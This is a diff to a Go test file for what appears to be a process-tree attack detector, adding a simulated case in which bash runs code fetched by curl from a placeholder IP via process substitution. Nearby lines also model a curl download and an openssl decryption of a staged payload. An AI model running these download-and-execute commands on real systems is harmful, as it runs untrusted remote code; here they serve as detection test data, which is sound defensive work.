@@ -49,6 +49,13 @@ func stories() map[string]*detecttest.Story {
 	s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/x", out(s.Pipe()))
 	m["attack-process-substitution"] = s
 
+	// bash -c 'bash <(curl …)': the last command replaces the shell.
+	s, sh = begin()
+	one := s.Exec(sh, "/usr/bin/bash -c 'bash <(curl -s http://203.0.113.7/x)'", in(s.Pipe()), out(s.Pipe()))
+	s.Exec(one, "/usr/bin/curl -s http://203.0.113.7/x", in(s.Pipe()), out(s.Pipe()))
+	s.Become(one, "/usr/bin/bash /dev/fd/63", in(s.Pipe()), out(s.Pipe()))
+	m["attack-substitution-in-place"] = s
+
 	s, sh = begin()
 	a = s.Pipe()
 	s.Exec(sh, "/usr/bin/openssl enc -aes-256-cbc -d -a -k x -in /tmp/p", out(a))
@@ -64,7 +71,7 @@ func stories() map[string]*detecttest.Story {
 
 	// Normal work.
 	s = detecttest.New(detecttest.Host(""))
-	one := s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
+	one = s.Was(nil, "/usr/lib/systemd/systemd=/sbin/init")
 	sh = s.Exec(one, "/usr/bin/bash /usr/local/bin/backup.sh", detecttest.Script("/usr/local/bin/backup.sh"))
 	a, b = s.Pipe(), s.Pipe()
 	s.Exec(sh, "/usr/bin/curl -s http://127.0.0.1:9200/_cat/indices", out(a))
